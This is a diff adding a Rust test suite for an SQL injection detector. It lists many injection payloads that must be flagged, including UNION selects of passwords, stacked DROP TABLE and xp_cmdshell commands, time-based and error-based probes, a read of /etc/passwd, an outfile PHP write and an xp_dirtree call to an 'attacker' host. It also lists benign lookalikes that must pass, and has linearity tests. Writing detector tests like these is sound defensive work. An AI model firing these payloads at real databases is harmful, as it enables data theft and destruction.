@@ -1,0 +1,202 @@
+use super::*;
+use crate::{Detector, FieldKind, Input, Level};
+
+fn hit(s: &str, level: Level) -> Option<Hit> {
+    SqliDetector.check(&Input { raw: s, decoded: s, field: FieldKind::QueryValue }, level)
+}
+
+fn conf(s: &str) -> u8 {
+    let mut steps = 0;
+    analyze(s, &mut steps).map_or(0, |f| f.confidence)
+}
+
+#[test]
+fn attacks_are_detected_at_balanced() {
+    let attacks = [
+        // UNION
+        "1 union select 1,2,3--",
+        "-1' UNION ALL SELECT username, password FROM users--",
+        "1\" union select null,version()#",
+        "1)) union all select 1,2,3 -- -",
+        "1/**/UNION/**/SELECT/**/1,2,3",
+        "1 /*!50000union*/ /*!50000select*/ 1,2",
+        "1 uNiOn\tsElEcT\n1,2",
+        "1\u{a0}union\u{a0}select\u{a0}1,2",
+        "x' union (select 1,2)--",
+        // stacked
+        "1; DROP TABLE users--",
+        "'; exec master..xp_cmdshell 'dir'--",
+        "1; exec xp_cmdshell('whoami')",
+        "'; shutdown--",
+        "1'; insert into users values(1,'a')--",
+        "1; update users set role='admin'--",
+        "1; declare @s varchar(99) set @s=0x41--",
+        // tautologies / contradictions
+        "' OR 1=1--",
+        "' or 'a'='a",
+        "admin' or true--",
+        "1 and 1=2",
+        "1 or 1=1",
+        "x\" or \"x\"=\"x",
+        "1') or ('1'='1",
+        "' OR '1",
+        "'='",
+        "-1 or x=x",
+        // time-based
+        "1 and sleep(5)",
+        "1' AND BENCHMARK(5000000,MD5(1))--",
+        "1; select pg_sleep(5)--",
+        "1'; waitfor delay '0:0:5'--",
+        "1 and 1=dbms_pipe.receive_message('a',5)",
+        // error-based
+        "1 and extractvalue(1,concat(0x7e,version()))",
+        "1' and updatexml(1,concat(0x7e,(select user())),1)--",
+        "1' + convert(int,@@version) + '",
+        "1 and 1=cast(version() as int)",
+        // out-of-band / files
+        "1 union select load_file('/etc/passwd')",
+        "1' into outfile '/var/www/x.php'--",
+        "1; exec master..xp_dirtree '\\\\attacker\\x'",
+        "1 and utl_http.request('http://x')=1",
+        // comments
+        "admin'--",
+        "admin')-- -",
+        "1 order by 3--",
+        "1' group by 1--+",
+        // sub-selects
+        "1 and (select count(*) from users)>0",
+        "'||(select password from users limit 1)||'",
+        // typographic quotes (best-fit mapping) and a remaining URL-encoding layer
+        "\u{2019} or \u{2018}1\u{2019}=\u{2019}1",
+        "1%27%20or%201%3D1--",
+        // comparison operators and odd spacing
+        "1 or 2>1",
+        "1 || 1=1",
+        "1 && 2=2",
+        "1'or(1)=(1)#",
+    ];
+    for a in attacks {
+        let h = hit(a, Level::Balanced);
+        assert!(h.is_some(), "missed {a:?} (confidence {})", conf(a));
+        let h = h.unwrap();
+        assert_eq!(h.detector, "sqli");
+        assert_eq!(h.category, Category::Sqli);
+        assert!(h.fragment.len() <= 64);
+    }
+}
+
+#[test]
+fn prose_and_lookalikes_are_not_blocked() {
+    let benign = [
+        "select your size",
+        "Please select your size",
+        "O'Reilly",
+        "Tom's diner; open 9-5",
+        "1 or 2 items",
+        "union station",
+        "Union Square",
+        "drop me a line",
+        "Drop-off at 5pm; pick up at 6",
+        "john.doe@example.com",
+        "https://example.com/a?b=1&c=2#frag",
+        "It's a 'quoted' word, isn't it?",
+        "I'd like to select the union of both; or not",
+        "Don't drop the table; it's fine",
+        "rock 'n' roll",
+        "5' 10\" tall",
+        "He said \"hello\" and left",
+        "the order by date is wrong",
+        "Update your profile",
+        "delete my account",
+        "insert coin",
+        "exec summary",
+        "where is george",
+        "1; exec will create the case 7",
+        "if all else fails call grandma",
+        "Please select pair #1",
+        "40 AND FAB",
+        "Mary's \"or\" John",
+        "item #5 -- new",
+        "price < 10 and rating > 4",
+        "A-B-C -- D",
+        "user@host:~$ ls -la",
+        "2024-01-01T10:00:00Z",
+        "C'est la vie; l'amour",
+        "// comment: if (a == b) { return; }",
+        "SELECT menu option 3",
+        "sleep well",
+        "1-800-FLOWERS",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
+        "aGVsbG8gd29ybGQ=",
+        "Apt is gated; call when you get here, and we'll come down to get it.",
+    ];
+    for b in benign {
+        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
+    }
+}
+
+#[test]
+fn strict_catches_more() {
+    assert!(hit("-1 order by 1", Level::Strict).is_some());
+    assert!(hit("admin'#", Level::Strict).is_some());
+}
+
+#[test]
+fn confidence_grows_with_structure() {
+    assert!(conf("' or 1=1 union select password from users--") >= 95);
+    assert!(conf("' or 1=1--") >= 80);
+    assert!(conf("admin'--") < conf("' or 1=1--"));
+}
+
+#[test]
+fn lexer_covers_dialect_literals() {
+    let kinds: Vec<_> =
+        lexer::Lexer::new("0x1F 0b101 1.5e-3 .5 N'x' E'a\\'b' $$dollar$$ `bq` [br] @v @@version -- c\n# h\n/* c */ a.b ::").map(|t| t.kind).collect();
+    assert!(kinds.contains(&lexer::Kind::QIdent));
+    assert!(kinds.contains(&lexer::Kind::Var));
+    assert_eq!(kinds.iter().filter(|k| **k == lexer::Kind::Num).count(), 4);
+    assert_eq!(kinds.iter().filter(|k| matches!(k, lexer::Kind::Str { closed: true, .. })).count(), 3);
+    assert_eq!(kinds.iter().filter(|k| matches!(k, lexer::Kind::Comment { .. })).count(), 3);
+}
+
+/// Work must stay linear in the input: count steps, never wall-clock.
+fn steps_for(s: &str) -> usize {
+    let mut steps = 0;
+    let _ = analyze(s, &mut steps);
+    steps
+}
+
+#[test]
+fn pathological_inputs_stay_linear() {
+    let n = 1 << 20;
+    let cases: Vec<String> = vec![
+        "'".repeat(n),
+        "\"".repeat(n),
+        "(".repeat(100_000),
+        format!("1 or {}1{}", "(".repeat(100_000), ")".repeat(100_000)),
+        "/*".repeat(n / 2),
+        "--".repeat(n / 2),
+        "[".repeat(n),
+        "$a".repeat(n / 2),
+        "@".repeat(n),
+        "1 union select ".repeat(n / 16),
+        "a or ".repeat(n / 5),
+        "\\".repeat(n),
+        "%27".repeat(n / 3),
+        "\u{2019}".repeat(n / 3),
+        "sleep(".repeat(n / 6),
+    ];
+    for c in &cases {
+        let steps = steps_for(c);
+        assert!(steps <= 40 * c.len() + 1000, "{} steps for {} bytes starting {:?}", steps, c.len(), &c[..16]);
+        // Also no panic at either level.
+        let _ = hit(c, Level::Strict);
+    }
+}
+
+#[test]
+fn unicode_and_odd_bytes_do_not_panic() {
+    for s in ["\u{0}'\u{0}", "é'é or é=é", "'\u{10ffff}", "0x", "0b", "1e", "@'", "$", "[]", "\\N", "/*!", "/*!123", "'--\u{2028}"] {
+        let _ = hit(s, Level::Strict);
+    }
+}
